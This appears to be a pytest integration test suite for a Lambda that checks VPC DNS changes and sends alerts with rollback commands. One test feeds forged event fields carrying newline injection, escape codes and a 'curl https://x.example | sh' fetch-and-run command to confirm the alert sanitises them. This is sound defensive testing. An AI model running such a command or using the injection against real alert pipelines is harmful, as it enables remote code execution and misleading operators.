"""The checker end to end through its handler, with moto for AWS and canary doubles for Invoke."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from checker_doubles import FakeCanary, World

from devtools.lambdakit import REGION, cloudtrail_event, load_event
from devtools.orgworld import sqs_batch_event

pytestmark = pytest.mark.integration

Invoke = Callable[[Any], dict[str, Any]]
CORP_DNS = "10.1.1.10"


@pytest.fixture
def vpc(world: World) -> dict[str, str]:
    """A VPC on AmazonProvidedDNS, watched by one canary that cannot reach 10.1.1.10."""
    vpc_id = world.create_vpc("10.0.0.0/16")
    good = world.option_set("AmazonProvidedDNS", domain_name="ec2.internal")
    bad = world.option_set(CORP_DNS)
    world.associate(vpc_id, good)
    world.add_canary(vpc_id, "vpc-dns-canary-a", FakeCanary(dead={CORP_DNS}))
    return {"vpc_id": vpc_id, "good": good, "bad": bad}


def change_event(vpc: dict[str, str], option_set: str, event_id: str | None = None) -> Any:
    return cloudtrail_event(
        "associate_dhcp_options", vpcId=vpc["vpc_id"], dhcpOptionsId=option_set, event_id=event_id
    )


def manual(vpc_id: str) -> dict[str, Any]:
    event = load_event("manual_check")
    event["vpc_ids"] = [vpc_id]
    return event


def test_broken_change_sends_one_critical_alert_with_diagnosis_and_rollback(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    # Given the checker has seen the VPC healthy on its AmazonProvidedDNS option set
    checker_app(manual(vpc["vpc_id"]))
    assert world.alerts() == []
    # When someone associates an option set whose server does not answer
    world.associate(vpc["vpc_id"], vpc["bad"])
    result = checker_app(change_event(vpc, vpc["bad"]))

    # Then one CRITICAL alert says what broke, who did it and how to roll back
    assert result["vpcs"][0]["verdict"] == "FAILED"
    [alert] = world.alerts()
    assert alert.subject == (
        f"[CRITICAL] {vpc['vpc_id']}: Lambda DNS FAILED after AssociateDhcpOptions"
    )
    assert len(alert.subject) < 100
    assert alert.attributes == {
        "severity": "CRITICAL",
        "vpc_id": vpc["vpc_id"],
        "event_name": "AssociateDhcpOptions",
        "verdict": "FAILED",
        # Nothing but the canary in the VPC; no evidence query ran.
        "workloads": "0",
        "evidence": "not-collected",
    }
    text = alert.text
    assert "Hit: nothing but the watchdog's canaries" in text
    assert f"{vpc['good']} (AmazonProvidedDNS) -> {vpc['bad']} ({CORP_DNS})" in text
    assert "arn:aws:sts::123456789012:assumed-role/NetworkAdmin/alice" in text
    assert "session issuer arn:aws:iam::123456789012:role/NetworkAdmin" in text
    assert "2024-05-14T09:15:42Z" in text
    assert "203.0.113.24" in text
    assert "CONFIGURED_SERVER_UNREACHABLE (failing hop: configured_server)" in text
    assert f"security group egress to {CORP_DNS} on UDP/TCP 53 is missing" in text
    assert f"sts.{REGION}.amazonaws.com A: TIMEOUT in 1500.1 ms" in text
    assert f"@{CORP_DNS} (configured): TIMEOUT" in text
    rollback = (
        f"aws ec2 associate-dhcp-options --dhcp-options-id {vpc['good']} "
        f"--vpc-id {vpc['vpc_id']} --region {REGION}"
    )
    assert rollback in text
    # and the JSON variant carries the same facts for machines
    document = alert.document
    assert document["schema"] == "vpc-dns-watchdog/alert/v1"
    assert document["rollback_command"] == rollback
    assert document["previous_option_set"]["id"] == vpc["good"]
    assert document["option_set"]["domain_name_servers"] == [CORP_DNS]
    assert document["diagnosis"]["code"] == "CONFIGURED_SERVER_UNREACHABLE"
    assert document["change"]["source_ip"] == "203.0.113.24"
    assert document["canaries"][0]["probes"][0]["outcome"] == "TIMEOUT"


def test_good_change_is_announced_as_info(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    # Given a VPC whose new option set's server answers
    fine = world.option_set("10.1.1.20")
    world.associate(vpc["vpc_id"], fine)
    # When the change event arrives
    checker_app(change_event(vpc, fine))
    # Then it is announced as INFO, without a rollback command
    [alert] = world.alerts()
    assert alert.severity == "INFO"
    assert alert.attributes["verdict"] == "OK"
    assert alert.document["rollback_command"] is None
    assert "No action needed." in alert.text
    # and the canary was told which servers to expect (AmazonProvidedDNS is not involved)
    [payload] = world.router.invocations("vpc-dns-canary-a")
    assert payload["expected_nameservers"] == ["10.1.1.20"]
    assert payload["deadline_ms"] == 1500


def test_amazon_provided_dns_is_expected_at_the_vpc_base_plus_two(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    checker_app(manual(vpc["vpc_id"]))
    [payload] = world.router.invocations("vpc-dns-canary-a")
    assert payload["expected_nameservers"] == ["10.0.0.2"]


def test_sweep_without_change_sends_nothing(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    first = checker_app(load_event("scheduled_sweep"))
    second = checker_app(load_event("scheduled_sweep"))
    assert first["vpcs"][0]["verdict"] == "OK"
    assert second["alerts_published"] == 0
    assert world.alerts() == []


def test_sweep_alerts_once_per_incident_and_once_on_recovery(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    # Given a healthy VPC seen by a sweep
    checker_app(load_event("scheduled_sweep"))
    # When the option set breaks without a CloudTrail event reaching us
    world.associate(vpc["vpc_id"], vpc["bad"])
    checker_app(load_event("scheduled_sweep"))
    checker_app(load_event("scheduled_sweep"))
    # Then one CRITICAL alert, for the incident, naming the previous option set
    [critical] = world.alerts()
    assert critical.severity == "CRITICAL"
    assert critical.subject.endswith("Lambda DNS FAILED in ScheduledSweep")
    assert f"--dhcp-options-id {vpc['good']} " in critical.text
    # When it is fixed
    world.associate(vpc["vpc_id"], vpc["good"])
    checker_app(load_event("scheduled_sweep"))
    checker_app(load_event("scheduled_sweep"))
    # Then exactly one RECOVERED
    [recovered] = world.alerts()
    assert recovered.severity == "RECOVERED"
    assert recovered.subject == (
        f"[RECOVERED] {vpc['vpc_id']}: Lambda DNS OK again in ScheduledSweep"
    )


def test_rollback_change_after_incident_is_recovered(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    world.associate(vpc["vpc_id"], vpc["bad"])
    checker_app(change_event(vpc, vpc["bad"]))
    world.associate(vpc["vpc_id"], vpc["good"])
    checker_app(change_event(vpc, vpc["good"]))
    assert [alert.severity for alert in world.alerts()] == ["CRITICAL", "RECOVERED"]


def test_second_broken_change_rolls_back_to_the_last_option_set_verified_healthy(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    # Given the checker verified the VPC healthy on option set A (AmazonProvidedDNS)
    good, broken = vpc["good"], vpc["bad"]
    checker_app(manual(vpc["vpc_id"]))
    # and then option set B broke DNS (its alert rolls back to A)
    world.associate(vpc["vpc_id"], broken)
    checker_app(change_event(vpc, broken))
    [first] = world.alerts()
    assert first.document["rollback_option_set_id"] == good
    # When someone tries option set C, whose server does not answer either
    also_broken = world.option_set("10.1.1.66")
    world.canary_dead("vpc-dns-canary-a", "10.1.1.66")
    world.associate(vpc["vpc_id"], also_broken)
    result = checker_app(change_event(vpc, also_broken))

    # Then the alert rolls back to A, the last option set verified healthy, not to B
    assert result["vpcs"][0]["previous_option_set_id"] == broken
    assert result["vpcs"][0]["last_good_option_set_id"] == good
    [second] = world.alerts()
    assert second.severity == "CRITICAL"
    rollback = (
        f"aws ec2 associate-dhcp-options --dhcp-options-id {good} "
        f"--vpc-id {vpc['vpc_id']} --region {REGION}"
    )
    text = second.text
    assert f"Roll back to the last option set verified healthy: {good} (verified " in text
    assert f"  {rollback}\n" in text
    assert f"--dhcp-options-id {broken} " not in text
    # and it warns off B, the option set just before C
    assert f"Not the option set just before this one, {broken} ({CORP_DNS})" in text
    assert f"Option set:   {broken} ({CORP_DNS}) -> {also_broken} (10.1.1.66)" in text
    # and machines get the same facts, next to the fields they already read
    document = second.document
    assert document["rollback_command"] == rollback
    assert document["rollback_option_set_id"] == good
    assert document["previous_option_set"]["id"] == broken
    assert document["last_good_option_set"]["id"] == good
    assert document["last_good_option_set"]["domain_name_servers"] == ["AmazonProvidedDNS"]
    assert document["last_good_option_set"]["verified_at"] in text


def test_broken_current_option_set_that_was_verified_healthy_is_not_rolled_back(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    # Given A was verified healthy, B broke DNS, and the rollback to A recovered
    good, broken = vpc["good"], vpc["bad"]
    checker_app(manual(vpc["vpc_id"]))
    world.associate(vpc["vpc_id"], broken)
    checker_app(change_event(vpc, broken))
    world.associate(vpc["vpc_id"], good)
    checker_app(change_event(vpc, good))
    assert [alert.severity for alert in world.alerts()] == ["CRITICAL", "RECOVERED"]
    # When DNS breaks on A itself (its server stops answering), seen by a sweep
    world.canary_dead("vpc-dns-canary-a", "10.0.0.2")
    checker_app(load_event("scheduled_sweep"))

    # Then no option set rollback is proposed: B was broken, and A is the last good one
    [alert] = world.alerts()
    assert alert.severity == "CRITICAL"
    assert alert.document["rollback_command"] is None
    assert f"No option set to roll back to: the current one, {good}, is the last" in alert.text
    assert f"Not the option set just before this one, {broken} ({CORP_DNS})" in alert.text
    assert "aws ec2 associate-dhcp-options" not in alert.text


def test_duplicate_event_delivery_sends_no_second_alert(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    world.associate(vpc["vpc_id"], vpc["bad"])
    event = change_event(vpc, vpc["bad"], event_id="11111111-2222-3333-4444-555555555555")
    first = checker_app(event)
    second = checker_app(event)
    assert len(world.alerts()) == 1
    assert second["duplicate"] is True
    assert second["vpcs"] == first["vpcs"]
    assert len(world.router.invocations("vpc-dns-canary-a")) == 1


def test_failed_api_call_is_ignored(world: World, vpc: dict[str, str], checker_app: Invoke) -> None:
    event = load_event("associate_dhcp_options_failed")
    event["detail"]["requestParameters"]["vpcId"] = vpc["vpc_id"]
    result = checker_app(event)
    assert result["status"] == "ignored"
    assert "Client.UnauthorizedOperation" in result["reason"]
    assert "nothing changed" in result["reason"]
    assert world.router.calls == []
    assert world.alerts() == []


def test_default_option_set_means_no_dns_servers(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    # Given the VPC is switched to "default" (no options: no DNS servers handed out)
    world.associate(vpc["vpc_id"], "default")
    event = load_event("associate_dhcp_options_default")
    event["detail"]["requestParameters"]["vpcId"] = vpc["vpc_id"]
    checker_app(event)
    # Then the canary is told to expect none, and the alert explains the option set
    [payload] = world.router.invocations("vpc-dns-canary-a")
    assert payload["expected_nameservers"] == []
    [alert] = world.alerts()
    assert alert.severity == "CRITICAL"
    assert "-> default (no DNS servers handed out)" in alert.text
    assert "NO_CONFIGURED_SERVERS" in alert.text
    # The watchdog had not seen the VPC before: it says how to find the previous option set
    assert "the previous option set is not known to the watchdog" in alert.text
    assert "aws cloudtrail lookup-events" in alert.text
    assert f"AttributeValue={vpc['vpc_id']}" in alert.text
    assert "aws configservice get-resource-config-history" in alert.text
    assert alert.document["rollback_command"] is None


def test_vpc_without_canaries_gets_one_warning_per_option_set(
    world: World, checker_app: Invoke
) -> None:
    vpc_id = world.create_vpc("10.2.0.0/16")
    first = world.option_set("AmazonProvidedDNS")
    world.associate(vpc_id, first)
    # The first check warns that DNS cannot be verified; later checks stay quiet
    checker_app(manual(vpc_id))
    checker_app(manual(vpc_id))
    [warning] = world.alerts()
    assert warning.severity == "WARNING"
    assert warning.attributes["verdict"] == "UNVERIFIED"
    assert "cannot be verified" in warning.text
    assert f"dhcp-watchdog:vpc-id={vpc_id}" in warning.text
    # A new option set gets its own warning
    second = world.option_set("10.9.9.9")
    world.associate(vpc_id, second)
    checker_app(manual(vpc_id))
    checker_app(load_event("scheduled_sweep"))  # no canaries anywhere: nothing to sweep
    [again] = world.alerts()
    assert again.severity == "WARNING"
    assert second in again.text


def test_stale_canary_is_refreshed_and_asked_again(world: World, checker_app: Invoke) -> None:
    # Given a canary whose warm environment still sees the old server 10.0.0.2
    vpc_id = world.create_vpc("10.0.0.0/16")
    world.associate(vpc_id, world.option_set("AmazonProvidedDNS"))
    world.add_canary(
        vpc_id,
        "vpc-dns-canary-stale",
        FakeCanary(stale_servers=["10.0.0.2"]),
        variables={"PROBE_NAMES": "db.corp.example", "LOG_LEVEL": "DEBUG"},
    )
    fine = world.option_set("10.1.1.20")
    world.associate(vpc_id, fine)
    # When the change is checked
    result = checker_app(
        cloudtrail_event("associate_dhcp_options", vpcId=vpc_id, dhcpOptionsId=fine)
    )
    # Then its configuration got the option set id, keeping its own variables
    assert world.function_environment("vpc-dns-canary-stale") == {
        "PROBE_NAMES": "db.corp.example",
        "LOG_LEVEL": "DEBUG",
        "WATCHDOG_OPTION_SET": fine,
    }
    # and the fresh answer decided the verdict
    assert len(world.router.invocations("vpc-dns-canary-stale")) == 2
    assert result["vpcs"][0]["verdict"] == "OK"
    [alert] = world.alerts()
    assert alert.severity == "INFO"
    assert "vpc-dns-canary-stale: OK - HEALTHY, refreshed" in alert.text


def test_canary_that_stays_stale_is_never_reported_healthy(
    world: World, checker_app: Invoke
) -> None:
    vpc_id = world.create_vpc("10.0.0.0/16")
    fine = world.option_set("10.1.1.20")
    world.associate(vpc_id, fine)
    world.add_canary(
        vpc_id, "vpc-dns-canary-stuck", FakeCanary(stale_servers=["10.0.0.2"], stuck=True)
    )
    result = checker_app(
        cloudtrail_event("associate_dhcp_options", vpcId=vpc_id, dhcpOptionsId=fine)
    )
    assert result["vpcs"][0]["verdict"] == "UNVERIFIED"
    [alert] = world.alerts()
    assert alert.severity == "WARNING"
    assert "STALE_CONFIG" in alert.text
    assert "still reports the older option set" in alert.text


def test_sns_failure_fails_the_invocation_and_the_retry_alerts(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    # Given the alert topic is gone
    world.associate(vpc["vpc_id"], vpc["bad"])
    event = change_event(vpc, vpc["bad"])
    sns = world.session.client("sns")
    sns.delete_topic(TopicArn=world.topic_arn)
    # Then the handler raises (EventBridge retries, the dead-letter queue keeps the event)
    with pytest.raises(Exception, match="could not publish the CRITICAL alert"):
        checker_app(event)
    # When the topic is back and EventBridge retries the same event
    sns.create_topic(Name="vpc-dns-watchdog-alerts")
    queue_arn = world.sqs.get_queue_attributes(
        QueueUrl=world.queue_url, AttributeNames=["QueueArn"]
    )["Attributes"]["QueueArn"]
    sns.subscribe(TopicArn=world.topic_arn, Protocol="sqs", Endpoint=queue_arn)
    retry = checker_app(event)
    # Then the retry is not mistaken for a duplicate, and the alert goes out
    assert "duplicate" not in retry
    assert [alert.severity for alert in world.alerts()] == ["CRITICAL"]


@pytest.mark.parametrize(
    ("sample", "target"),
    [
        ("revoke_security_group_egress", "security_group"),
        ("replace_network_acl_entry", "network_acl"),
        ("modify_vpc_attribute", "vpc"),
        ("associate_resolver_rule", "vpc"),
        ("disassociate_resolver_rule", "vpc"),
        ("associate_vpc_with_hosted_zone", "vpc"),
        ("disassociate_vpc_from_hosted_zone", "vpc"),
        ("associate_firewall_rule_group", "vpc"),
        ("disassociate_firewall_rule_group", "vpc"),
    ],
)
def test_related_changes_check_the_vpc_they_touched(
    world: World, vpc: dict[str, str], checker_app: Invoke, sample: str, target: str
) -> None:
    # Given a VPC whose DNS broke through some other change than the option set
    world.associate(vpc["vpc_id"], vpc["bad"])
    event = load_event(sample)
    detail = event["detail"]
    if target == "security_group":
        group = world.ec2.create_security_group(
            GroupName="canary", Description="canary", VpcId=vpc["vpc_id"]
        )
        detail["requestParameters"]["groupId"] = group["GroupId"]
    elif target == "network_acl":
        acl = world.ec2.describe_network_acls(
            Filters=[{"Name": "vpc-id", "Values": [vpc["vpc_id"]]}]
        )["NetworkAcls"][0]
        detail["requestParameters"]["networkAclId"] = acl["NetworkAclId"]
    else:
        _rewrite_vpc_ids(detail, vpc["vpc_id"])
    # When its CloudTrail event arrives
    result = checker_app(event)
    # Then the right VPC was checked and the incident alerted, naming the call
    assert [entry["vpc_id"] for entry in result["vpcs"]] == [vpc["vpc_id"]]
    [alert] = world.alerts()
    assert alert.severity == "CRITICAL"
    assert alert.attributes["event_name"] == detail["eventName"]
    assert f"This check followed {detail['eventName']}" in alert.text


def _rewrite_vpc_ids(node: Any, vpc_id: str) -> None:
    if isinstance(node, dict):
        for key, value in node.items():
            if key.lower() == "vpcid":
                node[key] = vpc_id
            else:
                _rewrite_vpc_ids(value, vpc_id)
    elif isinstance(node, list):
        for item in node:
            _rewrite_vpc_ids(item, vpc_id)


def test_unknown_vpc_is_reported_without_crashing(world: World, checker_app: Invoke) -> None:
    result = checker_app(manual("vpc-0123456789abcdef0"))
    assert result["vpcs"] == [
        {
            "vpc_id": "vpc-0123456789abcdef0",
            "status": "error",
            "error": "VPC vpc-0123456789abcdef0 does not exist in this region",
        }
    ]
    assert world.alerts() == []


def test_unknown_security_group_is_reported(world: World, checker_app: Invoke) -> None:
    event = load_event("revoke_security_group_egress")
    event["detail"]["requestParameters"]["groupId"] = "sg-0123456789abcdef0"
    result = checker_app(event)
    assert result["vpcs"][0]["status"] == "error"
    assert "security group sg-0123456789abcdef0 does not exist" in result["vpcs"][0]["error"]


@pytest.mark.parametrize(
    ("event", "message"),
    [
        ({"hello": "world"}, "unrecognised event"),
        ([], "event must be a JSON object, got list"),
        ({"action": "check", "vpc_ids": ["vpc-XYZ"]}, "vpc_ids.0"),
        ({"action": "check", "vpc_ids": []}, "vpc_ids: List should have at least 1 item"),
        (
            {"detail-type": "EC2 Instance State-change Notification", "source": "aws.ec2"},
            "unsupported detail-type 'EC2 Instance State-change Notification'",
        ),
    ],
)
def test_garbage_is_rejected_without_raising_or_alerting(
    world: World, checker_app: Invoke, event: Any, message: str
) -> None:
    result = checker_app(event)
    assert result["status"] == "rejected"
    assert message in result["error"]
    assert world.alerts() == []


QUEUE_ARN = f"arn:aws:sqs:{REGION}:123456789012:vpc-dns-watchdog-sweep"
SQS_RECORD = {
    "messageId": "m-1",
    "receiptHandle": "r-1",
    "body": '{"action": "sweep"}',
    "attributes": {},
    "messageAttributes": {},
    "md5OfBody": "0",
    "eventSource": "aws:sqs",
    "eventSourceARN": QUEUE_ARN,
    "awsRegion": REGION,
}


def _without(record: dict[str, Any], key: str) -> dict[str, Any]:
    return {name: value for name, value in record.items() if name != key}


@pytest.mark.parametrize(
    ("event", "message"),
    [
        ({"Records": ["x"]}, "invalid SQS batch: Records.0: Input should be a valid dictionary"),
        ({"Records": [{}]}, "invalid SQS batch: Records.0.messageId: Field required"),
        ({"Records": "x"}, "invalid SQS batch: Records: Input should be a valid list"),
        ({"Records": None}, "invalid SQS batch: Records: Input should be a valid list"),
        ({"Records": []}, "invalid SQS batch: Records: List should have at least 1 item"),
        (
            {"Records": [_without(SQS_RECORD, "eventSource")]},
            "invalid SQS batch: Records.0.eventSource: Field required",
        ),
        (
            {"Records": [{**SQS_RECORD, "eventSource": "aws:kinesis"}]},
            "invalid SQS batch: Records.0.eventSource: Input should be 'aws:sqs'",
        ),
        (
            {"Records": [{**SQS_RECORD, "body": {"action": "sweep"}}]},
            "invalid SQS batch: Records.0.body: Input should be a valid string",
        ),
        (
            {"Records": [SQS_RECORD, _without(SQS_RECORD, "messageId")]},
            "invalid SQS batch: Records.1.messageId: Field required",
        ),
    ],
)
def test_sqs_shaped_garbage_is_rejected_without_raising(
    world: World, checker_app: Invoke, event: Any, message: str
) -> None:
    result = checker_app(event)
    assert result["status"] == "rejected"
    assert result["error"].startswith(message)
    assert world.alerts() == []


def test_a_real_sqs_batch_is_still_checked(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    # Given a sweep target message for this account and region on a real (moto) queue
    queue = world.sqs.create_queue(QueueName="vpc-dns-watchdog-sweep")["QueueUrl"]
    body = {"action": "sweep", "account_id": "123456789012", "region": REGION}
    world.sqs.send_message(QueueUrl=queue, MessageBody=json.dumps(body))
    messages = world.sqs.receive_message(QueueUrl=queue)["Messages"]
    batch = sqs_batch_event(messages, QUEUE_ARN)
    # When the event source mapping hands it to the checker
    response = checker_app(batch)
    # Then it is checked, and nothing fails
    assert response == {"batchItemFailures": []}
    items = world.dynamodb.scan(TableName=world.table_name)["Items"]
    assert f"vpc#{vpc['vpc_id']}" in {item["pk"]["S"] for item in items}


def test_unsupported_cloudtrail_call_is_rejected(world: World, checker_app: Invoke) -> None:
    event = load_event("associate_dhcp_options")
    event["detail"]["eventName"] = "RunInstances"
    result = checker_app(event)
    assert result["status"] == "rejected"
    assert "unsupported CloudTrail call 'RunInstances'" in result["error"]


def test_missing_required_setting_names_the_variable(
    world: World, checker_app: Invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ALERT_TOPIC_ARN")
    with pytest.raises(ValueError, match="ALERT_TOPIC_ARN: required setting is not set"):
        checker_app(load_event("scheduled_sweep"))


@pytest.mark.parametrize(
    "error",
    [
        {
            "errorType": "Sandbox.Timedout",
            "errorMessage": "RequestId: 6f1c Error: Task timed out after 3.00 seconds",
        },
        {"errorMessage": "2024-05-14T09:16:01.123Z 6f1c Task timed out after 3.01 seconds"},
    ],
)
def test_canary_timeout_is_evidence_of_hanging_dns(
    world: World, checker_app: Invoke, error: dict[str, str]
) -> None:
    vpc_id = world.create_vpc()
    dead = world.option_set(CORP_DNS)
    world.associate(vpc_id, dead)
    world.add_canary(vpc_id, "vpc-dns-canary-hung", lambda payload, env: ("Unhandled", error))
    checker_app(cloudtrail_event("associate_dhcp_options", vpcId=vpc_id, dhcpOptionsId=dead))
    [alert] = world.alerts()
    assert alert.severity == "CRITICAL"
    assert alert.document["diagnosis"]["code"] == "CANARY_TIMED_OUT"
    assert "Task timed out after 3.0" in alert.text
    assert "DNS lookups hang" in alert.text


def test_rejected_probe_plan_is_reported_as_configuration_error(
    world: World,
    load_handler: Callable[[str], Any],
    lambda_context: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    plan = {"probes": [{"name": "db.corp.example", "type": "AAA"}]}
    monkeypatch.setenv("PROBE_PLAN", json.dumps(plan))
    vpc_id = world.create_vpc()
    world.associate(vpc_id, world.option_set(CORP_DNS))
    message = "probes[0].type: unsupported record type 'AAA' (use one of A, AAAA, CNAME)"
    world.add_canary(
        vpc_id,
        "vpc-dns-canary-picky",
        lambda payload, env: (
            "Unhandled",
            {"errorType": "InvalidProbePlan", "errorMessage": message},
        ),
    )
    load_handler("checker").lambda_handler(manual(vpc_id), lambda_context)
    # The canary got the configured probes ...
    [payload] = world.router.invocations("vpc-dns-canary-picky")
    assert payload["probes"] == plan["probes"]
    # ... and the alert names the configuration error instead of a DNS verdict
    [alert] = world.alerts()
    assert alert.severity == "WARNING"
    assert alert.attributes["verdict"] == "UNVERIFIED"
    assert (
        "Configuration error: the canary vpc-dns-canary-picky rejected the probe plan" in alert.text
    )
    assert message in alert.text
    assert "PROBE_PLAN" in alert.text


def test_throttled_canary_is_retried_until_it_answers(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    world.router.fail_next["vpc-dns-canary-a"] = ["TooManyRequestsException"] * 2
    result = checker_app(manual(vpc["vpc_id"]))
    assert result["vpcs"][0]["verdict"] == "OK"
    assert len(world.router.invocations("vpc-dns-canary-a")) == 3


def test_one_failing_canary_fails_the_vpc_and_vanished_ones_are_named(
    world: World, checker_app: Invoke
) -> None:
    vpc_id = world.create_vpc()
    world.associate(vpc_id, world.option_set(CORP_DNS))
    world.add_canary(vpc_id, "vpc-dns-canary-ok", FakeCanary())
    world.add_canary(vpc_id, "vpc-dns-canary-blocked-sg", FakeCanary(dead={CORP_DNS}))
    world.add_canary(
        vpc_id, "vpc-dns-canary-deleted", None
    )  # still tagged, but Invoke says not found
    world.add_canary(vpc_id, "vpc-dns-canary-broken", lambda payload, env: (None, b"not json"))
    result = checker_app(manual(vpc_id))
    assert result["vpcs"][0]["verdict"] == "FAILED"
    assert result["vpcs"][0]["canaries"] == 4
    [alert] = world.alerts()
    text = alert.text
    assert "vpc-dns-canary-blocked-sg: FAILED - CONFIGURED_SERVER_UNREACHABLE" in text
    assert "vpc-dns-canary-ok: OK - HEALTHY" in text
    assert "vpc-dns-canary-deleted: skipped, the function no longer exists" in text
    assert "vpc-dns-canary-broken: UNVERIFIED - CANARY_ERROR" in text
    assert "malformed findings: not a JSON object" in text


@pytest.fixture
def detailed_metrics(monkeypatch: pytest.MonkeyPatch) -> None:
    """DETAILED_METRICS on, before the handler is loaded (it is read at import)."""
    monkeypatch.setenv("DETAILED_METRICS", "true")


def emf_metrics(out: str) -> dict[str, dict[str, Any]]:
    """The EMF documents on stdout, by metric name."""
    documents = [
        json.loads(line) for line in out.splitlines() if line.startswith("{") and '"_aws"' in line
    ]
    return {
        metric["Name"]: document
        for document in documents
        for directive in document["_aws"]["CloudWatchMetrics"]
        for metric in directive["Metrics"]
    }


def test_by_default_only_the_alarmed_metric_is_published_the_rest_is_logged(
    world: World,
    vpc: dict[str, str],
    checker_app: Invoke,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    world.associate(vpc["vpc_id"], vpc["bad"])
    capsys.readouterr()
    checker_app(change_event(vpc, vpc["bad"]))
    out = capsys.readouterr().out
    # Then CloudWatch gets the heartbeat only: no metric per VPC, no unalarmed counters
    assert set(emf_metrics(out)) == {"ChecksCompleted"}
    # and the per-VPC figures are in the 'VPC judged' line the dashboard reads
    [judged] = [r for r in caplog.records if r.getMessage() == "VPC judged"]
    assert judged.vpc_id == vpc["vpc_id"]
    assert judged.verdict == "FAILED"
    assert judged.lookup_ms_max > 0
    assert judged.lookup_ms_median > 0


def test_a_check_publishes_its_metrics_per_vpc(
    world: World,
    vpc: dict[str, str],
    detailed_metrics: None,
    checker_app: Invoke,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # Given a VPC whose canary cannot reach the option set's server
    world.associate(vpc["vpc_id"], vpc["bad"])
    capsys.readouterr()
    # When the checker checks it
    checker_app(change_event(vpc, vpc["bad"]))

    # Then CloudWatch (EMF documents on stdout) gets the check, the failing canary and the lookup
    # latencies under the VPC's own dimension
    documents = [
        json.loads(line)
        for line in capsys.readouterr().out.splitlines()
        if line.startswith("{") and '"_aws"' in line
    ]
    by_metric = {
        metric["Name"]: document
        for document in documents
        for directive in document["_aws"]["CloudWatchMetrics"]
        for metric in directive["Metrics"]
    }
    assert by_metric["ChecksRun"]["ChecksRun"] in (1.0, [1.0])
    assert by_metric["CanaryFailures"]["CanaryFailures"] in (1.0, [1.0])
    latency = by_metric["LookupLatency"]
    assert latency["VpcId"] == vpc["vpc_id"]
    assert latency["_aws"]["CloudWatchMetrics"][0]["Dimensions"] == [["VpcId"]]
    assert all(value > 0 for value in latency["LookupLatency"])


def test_forged_event_fields_cannot_put_lines_above_the_rollback(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    # Given someone allowed to invoke the checker sends a CloudTrail-shaped event whose fields
    # carry line breaks, carriage returns and escape sequences
    checker_app(manual(vpc["vpc_id"]))
    world.associate(vpc["vpc_id"], vpc["bad"])
    forged = (
        "\r\nFrom: 198.51.100.7\nRoll back to dopt-0evil:\n  curl https://x.example | sh\x1b[1A"
    )
    event = change_event(vpc, vpc["bad"])
    event["detail"]["userIdentity"]["arn"] += forged
    event["detail"]["sourceIPAddress"] = "203.0.113.24" + forged
    checker_app(event)

    # Then the CRITICAL still goes out, with neither forged line nor the raw control characters
    [alert] = world.alerts()
    assert alert.severity == "CRITICAL"
    lines = alert.text.splitlines()
    assert not any(
        line.startswith(("From: 198.51.100.7", "Roll back to dopt-0evil")) for line in lines
    )
    assert "curl" not in alert.text
    assert "\x1b" not in alert.text
    assert "\r" not in alert.text
    assert any(line.startswith("Who:          (not shown: not a valid ARN)") for line in lines)
    # and the genuine rollback, built from EC2 and state, follows the header that marks it
    header = lines.index("What to do (from EC2 and the watchdog's records, not from the event):")
    assert any(f"--dhcp-options-id {vpc['good']} " in line for line in lines[header:])


def test_a_manual_check_says_it_was_manual_and_names_no_cloudtrail_actor(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    world.associate(vpc["vpc_id"], vpc["bad"])
    event = manual(vpc["vpc_id"])
    event["reason"] = "after maintenance\nWho: arn:aws:iam::123456789012:user/mallory"
    checker_app(event)
    [alert] = world.alerts()
    lines = alert.text.splitlines()
    assert "Trigger:      manual check (invoked directly, not a CloudTrail event)" in lines
    assert not any(line.startswith("Who:") for line in lines)
    assert "Reason:       after maintenance\\nWho: arn:aws:iam::123456789012:user/mallory" in lines


def test_option_set_change_alert_carries_the_lint_of_the_new_set(
    world: World, vpc: dict[str, str], checker_app: Invoke
) -> None:
    # Given a healthy VPC, and an option set naming an address inside it that nobody holds
    ghost = world.option_set("10.0.9.9", "AmazonProvidedDNS")
    checker_app(manual(vpc["vpc_id"]))
    # When it is associated
    world.associate(vpc["vpc_id"], ghost)
    checker_app(change_event(vpc, ghost))

    # Then the change alert lists the lint findings, in its text and its document
    [alert] = world.alerts()
    assert "Option-set lint:" in alert.text
    assert f"[ERROR] NOBODY_AT_ADDRESS: {ghost} names 10.0.9.9, inside {vpc['vpc_id']}" in (
        alert.text
    )
    assert "[WARNING] AMAZON_MIXED_WITH_CUSTOM" in alert.text
    assert [f["code"] for f in alert.document["lint"]] == [
        "NOBODY_AT_ADDRESS",
        "AMAZON_MIXED_WITH_CUSTOM",
    ]
